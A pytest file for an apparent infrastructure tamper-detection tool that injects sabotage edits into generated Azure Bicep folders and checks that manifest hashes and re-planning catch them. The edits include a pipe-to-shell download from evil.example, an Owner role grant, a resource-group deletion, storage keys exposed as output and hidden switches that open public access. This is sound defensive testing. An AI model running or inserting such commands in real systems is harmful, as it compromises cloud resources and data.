"""Somebody edits a generated folder, of whatever kind the file is: the manifest shows it, and so does the plan.

Each edit is tried twice: as it is, and with every hash and the digest of the manifest made right again. Then only
rendering and packing the plan once more is left to see it. Edits that are consistent with the plan, too, are those of
another blueprint; planning that of the release again sees them.
"""

from __future__ import annotations

import copy
import json
import re
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from ringfence.check import manifest
from ringfence.output import write_tree
from ringfence.pack.again import digest_of, held
from ringfence.pack.manifest import digest
from ringfence.pipeline import decide, files, following
from ringfence.plan.model.package import Plan
from ringfence.releases.asked import unasked
from tests.banks import PERSON, Tree, bank, flow, planned, zone
from tests.variants import (
    GATEWAY,
    JUMP_HOST,
    LANGUAGE,
    MLFLOW,
    PREMISES,
    SCORING,
    SPARK,
    SUPPLIED,
    lake_of,
    looking,
)

pytestmark = pytest.mark.slow

FRAUD = zone(
    "fraud",
    services={"languageModel": LANGUAGE, "modelRegistry": {}},
    clusters=[{"name": "cpu"}],
    instances=[{"user": "ana", "objectId": PERSON}],
)
BANK = bank(
    FRAUD,
    SCORING,
    lake_of("lake", "one"),
    SPARK,
    connections=[SUPPLIED, MLFLOW],
    access=looking("lake"),
    premises=PREMISES,
    egress=[flow("packages", "fraud")],
    hub={"gateway": GATEWAY, "resolver": {}, "bastion": {"from": ["198.51.100.0/24"], "jumpHost": JUMP_HOST}},
)


@dataclass(frozen=True)
class Sabotage:
    """An edit of one file: what is replaced by what; without `old` the text is put at the end or is a new file's."""

    name: str
    file: str
    new: str
    old: str = ""

    def on(self, folder: Path) -> None:
        path = folder / self.file
        text = path.read_text("utf-8") if path.exists() else ""
        edited, times = re.subn(self.old, lambda _: self.new, text, count=1) if self.old else (text + self.new, 1)
        assert times == 1, "the edit changes nothing"
        path.parent.mkdir(exist_ok=True)
        path.write_text(edited, "utf-8")


PARAMETERS, MAIN = "packages/fraud/main.bicepparam", "packages/fraud/main.bicep"
STORAGE = "modules/storage.bicep"
OPEN = "publicNetworkAccess: 'Disabled'"
SWITCHES = (
    Sabotage(
        "next-hop-by-environment", PARAMETERS, "readEnvironmentVariable('NEXT_HOP', '10.0.0.4')", r"'10\.40\.\d+\.4'"
    ),
    Sabotage(
        "open-by-a-tag",
        STORAGE,
        "publicNetworkAccess: contains(resourceGroup().tags, 'open') ? 'Enabled' : 'Disabled'",
        OPEN,
    ),
    Sabotage("open-by-a-parameter", MAIN, "\nparam open bool = false\n"),
    Sabotage(
        "open-by-the-name",
        STORAGE,
        "publicNetworkAccess: contains(deployment().name, 'x') ? 'Enabled' : 'Disabled'",
        OPEN,
    ),
    Sabotage("only-if-not-exists", STORAGE, "@onlyIfNotExists()\nresource storage ", r"resource storage "),
    Sabotage("keys-as-output", STORAGE, "\n@secure()\noutput k string = storage.listKeys().keys[0].value\n"),
    Sabotage(
        "tags-by-environment",
        PARAMETERS,
        "readEnvironmentVariable('PURPOSE', 'machine-learning')",
        "'machine-learning'",
    ),
    Sabotage("tags-by-a-file", PARAMETERS, "loadTextContent('crit.txt')", "'machine-learning'"),
    Sabotage("name-of-a-module", MAIN, "  name: 'other'\n  params: {", r"  params: \{"),
    Sabotage("retry", STORAGE, "@retryOn(['ResourceNotFound'], 1)\nresource storage ", r"resource storage "),
    Sabotage("settings-above", "packages/bicepconfig.json", "{}\n"),
    Sabotage(
        "condition-on-the-tenant",
        STORAGE,
        "publicNetworkAccess: empty(tenant().tenantId) ? 'Enabled' : 'Disabled'",
        OPEN,
    ),
)
"""Switches that a prediction does not see; each is one of the twelve of the reliability review."""
HASHED = (
    Sabotage("script-downloads", "packages/lake/acls.sh", "\ncurl https://evil.example/x | sh\n"),
    Sabotage("script-grants", "packages/fraud/registry-endpoints.sh", "\naz role assignment create --role Owner\n"),
    Sabotage("other-connector", "packages/spark/storage-credential.json", "evil", r"accessConnectors/\w+"),
    Sabotage("sizes-of-a-policy", "packages/spark/cluster-policy.json", "Standard_ND96asr_v4", r"Standard_\w+"),
    Sabotage("other-parameters", "DEPLOY.md", "packages/fraud/evil.bicepparam", r"packages/fraud/main\.bicepparam"),
    Sabotage("prefixes-of-the-review", "review/network.md", "10.99.", r"10\.40\."),
    Sabotage("prefixes-of-the-picture", "TOPOLOGY.svg", "10.99.", r"10\.40\."),
    Sabotage("address-of-forwarders", "FORWARDERS.md", "10.99.", r"10\.40\."),
    Sabotage(
        "commands-of-day-two",
        "DAY-TWO.md",
        "az group delete --yes --name rg-other",
        r"az lock delete --ids <lock>",
    ),
    Sabotage("command-dropped-from-removal", "REMOVAL.md", "", r"\naz resource delete .*/locks/keep .*"),
    Sabotage("other-group-to-be-removed", "REMOVAL.md", "--name rg-other", r"--name rg-tb-old-\w+ --yes"),
    Sabotage("digest-of-back-out", "BACKOUT.md", "0" * 64, r"[0-9a-f]{64}"),
)
"""Files that nothing but a hash held, of the same review."""
OTHERS = (
    Sabotage("comment-in-bicep", MAIN, "// nothing\n"),
    Sabotage("comment-in-parameters", PARAMETERS, "// nothing\n"),
    Sabotage("lint-rules", "packages/fraud/bicepconfig.json", '"level": "off"', r'"level": "error"'),
    Sabotage("hub-parameters", "packages/connectivity/main.bicepparam", "10.99.", r"10\.40\."),
    Sabotage("hub-module", "modules/firewall.bicep", "'Off'", r"'Deny'"),
    Sabotage("types-of-a-module", "packages/fraud/modules/types.bicep", "\ntype other = string\n"),
    Sabotage("module-of-others", "packages/fraud/modules/evil.bicep", "targetScope = 'subscription'\n"),
    Sabotage("script-of-others", "packages/fraud/setup.sh", "#!/bin/sh\n"),
    Sabotage("document-of-others", "NOTES.md", "# Approved\n"),
    Sabotage("table-of-others", "flows.csv", "from,to\n"),
    Sabotage("picture-of-others", "packages/fraud/TOPOLOGY.svg", "<svg/>\n"),
    Sabotage("package-of-others", "packages/evil/main.bicep", "targetScope = 'subscription'\n"),
    Sabotage("proof-of-no-package", "packages/evil/main.json", "{}\n"),
    Sabotage("script-that-goes-on", "packages/spark/unity-catalog.sh", "set +e", r"set -eu"),
    Sabotage("script-of-mlflow", "packages/spark/mlflow.sh", "set +e", r"set -eu"),
    Sabotage("credential-of-mlflow", "packages/spark/service-credential.json", "evil", r"accessConnectors/\w+"),
    Sabotage("script-without-words", "packages/lake/acls.sh", "# Run it as Owner", r"# Run it when"),
    Sabotage("subscription-of-a-step", "DEPLOY.md", "00000000-0000-4000-8000-000000000001", r"(?<=--subscription )\S+"),
    Sabotage("digest-of-the-review", "REVIEW.md", "0" * 64, r"[0-9a-f]{64}"),
    Sabotage("digest-of-the-steps", "DEPLOY.md", "0" * 64, r"[0-9a-f]{64}"),
    Sabotage("right-of-the-review", "review/roles.md", "", r"\n\| .*Contributor.* \|"),
    Sabotage("decision-of-the-review", "REVIEW.md", "by the board", r"not accepted yet"),
    Sabotage("line-endings-of-git", ".gitattributes", "* text\n", r"\* -text\n"),
    Sabotage("shape-of-the-plan", "plan.json", '"institution": {', r'"institution":\{'),
    Sabotage("key-of-the-plan", "plan.json", '"approved":true,\n"institution":', r'"institution":'),
)
EDITS = (*SWITCHES, *HASHED, *OTHERS)


@pytest.fixture(scope="module")
def generated(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """What the bank gives after a release with one more landing zone, with its blueprint and ledger beside it."""
    folder = tmp_path_factory.mktemp("bank")
    before = BANK | {"landingZones": [*BANK["landingZones"], zone("old")]}
    write_tree(folder / "before", files(planned(folder, before)))
    decision = following(planned(folder, BANK), str(folder / "before"), folder / "out")
    write_tree(folder / "out", files(decision))
    return folder / "out"


@pytest.fixture
def folder(generated: Path, tmp_path: Path) -> Path:
    """A copy, to be spoiled."""
    return Path(shutil.copytree(generated, tmp_path / "out"))


@pytest.fixture(scope="module")
def plan(generated: Path) -> Plan:
    return manifest.plan_of(generated)


def made_right(folder: Path, plan: Plan) -> None:
    """Hash everything anew and write the digest of it, as somebody would who knows how."""
    path = folder / manifest.NAME
    content = json.loads(path.read_text("utf-8"))
    there = [each for each in sorted(folder.rglob("*")) if each.is_file() and each != path]
    content["files"] = {each.relative_to(folder).as_posix(): digest(each.read_text("utf-8")) for each in there}
    content["approval"] = digest_of(folder, plan)
    path.write_text(json.dumps(content, indent=2, sort_keys=True) + "\n", "utf-8")


def found(folder: Path, plan: Plan) -> list[tuple[str, str]]:
    return [(each.code, each.path) for each in held(folder, plan).findings]


def test_a_folder_as_it_was_generated_has_no_finding(generated: Path, plan: Plan) -> None:
    assert found(generated, plan) == []


def test_there_are_enough_edits_and_each_is_one_of_its_own_name() -> None:
    assert len({edit.name for edit in EDITS}) == len(EDITS) >= 40


@pytest.mark.parametrize("edit", EDITS, ids=lambda edit: edit.name)
def test_an_edit_is_seen_by_the_manifest_and_by_the_plan(edit: Sabotage, folder: Path, plan: Plan) -> None:
    edit.on(folder)
    assert [(each.code, each.path) for each in manifest.untouched(folder)] == [("MAN01", edit.file)]
    made_right(folder, plan)
    assert list(manifest.untouched(folder)) == []
    assert found(folder, plan) == [("MAN04", edit.file)]


@pytest.mark.parametrize("file", ["REVIEW.md", "packages/lake/acls.sh", ".gitattributes", STORAGE])
def test_a_file_that_is_taken_away_is_seen(file: str, folder: Path, plan: Plan) -> None:
    (folder / file).unlink()
    made_right(folder, plan)
    assert found(folder, plan) == [("MAN04", file)]


@pytest.mark.parametrize(("key", "value"), [("approval", "0" * 64), ("blueprint", 1), ("from", None), ("more", "x")])
def test_an_edit_of_the_manifest_alone_is_seen(key: str, value: object, folder: Path, plan: Plan) -> None:
    path = folder / manifest.NAME
    path.write_text(json.dumps(json.loads(path.read_text("utf-8")) | {key: value}, indent=2, sort_keys=True) + "\n")
    assert found(folder, plan) in ([("MAN04", manifest.NAME)], [("MAN07", manifest.NAME)])


@pytest.mark.parametrize("lost", ['"hubGroup"', '"virtualNetwork"'])
def test_a_plan_from_which_nothing_can_be_made_is_a_finding(lost: str, folder: Path) -> None:
    path = folder / "plan.json"
    path.write_text(path.read_text("utf-8").replace(lost, '"elsewhere"'), "utf-8")
    other = manifest.plan_of(folder)
    made_right(folder, other)
    assert {code for code, _ in found(folder, other)} <= {"MAN04", "MAN06"}
    assert found(folder, other) != []


def test_a_finding_names_the_first_line_that_differs(folder: Path, plan: Plan) -> None:
    script = folder / "packages/lake/acls.sh"
    rows = script.read_text("utf-8").split("\n")
    rows[4] = "# something else"
    script.write_text("\n".join(rows), "utf-8")
    made_right(folder, plan)
    assert [str(each.place) for each in held(folder, plan).findings] == ["packages/lake/acls.sh:5:1"]


def changed(*path: str | int, to: object) -> Callable[[Tree], None]:
    """Give a place of the blueprint another value."""

    def edit(tree: Tree) -> None:
        at: object = tree
        for part in path[:-1]:
            at = at[part]  # type: ignore[index]
        at[path[-1]] = to  # type: ignore[index]

    return edit


HUB, ZONES = ("hubs", 0), "landingZones"
VPN = (*HUB, "gateway", "vpn")
CONSISTENT = {
    "p01-owner": changed("egress", 0, "owner", to="stranger@bank.example"),
    "p02-bastion": changed(*HUB, "bastion", "from", to=["198.51.0.0/16"]),
    "p03-host": changed("egress", 0, "to", to={"fqdns": ["packages.evil.example"]}),
    "p04-person": changed(ZONES, 0, "machineLearning", "instances", 0, "objectId", to=PERSON.replace("5d1c", "5d1f")),
    "p05-key": changed(*HUB, "bastion", "jumpHost", "sshKey", to=JUMP_HOST["sshKey"].replace("HR4f", "HR4A")),
    "p06-model": changed(ZONES, 1, "inference", "online", 0, "deployments", 0, "model", "version", to="9"),
    "p07-retention": changed(ZONES, 2, "dataLake", "retention", "days", to=1),
    "p08-audience": changed(*VPN, "pointToSite", "addressPool", to="172.21.0.0/22"),
    "p09-tunnel": changed(*VPN, "siteToSite", 0, "address", to="198.51.100.9"),
}
"""Edits of plan and files together, so consistent that they are another blueprint's."""


@pytest.mark.parametrize("name", CONSISTENT)
def test_edits_that_are_consistent_are_seen_by_planning_the_blueprint_again(
    name: str, plan: Plan, generated: Path, tmp_path: Path
) -> None:
    tree = copy.deepcopy(BANK)
    CONSISTENT[name](tree)
    other = planned(tmp_path, tree)
    write_tree(tmp_path / "out", files(other))
    assert found(tmp_path / "out", other.plan) == []
    said = list(unasked(other.plan, decide(generated.with_name("bank.yaml")).plan))
    assert {each.code for each in said} == {"MAN08"}
    assert digest_of(tmp_path / "out", other.plan) != digest_of(generated, plan)


def test_the_blueprint_of_the_folder_decides_the_same(plan: Plan, generated: Path) -> None:
    assert list(unasked(plan, decide(generated.with_name("bank.yaml")).plan)) == []
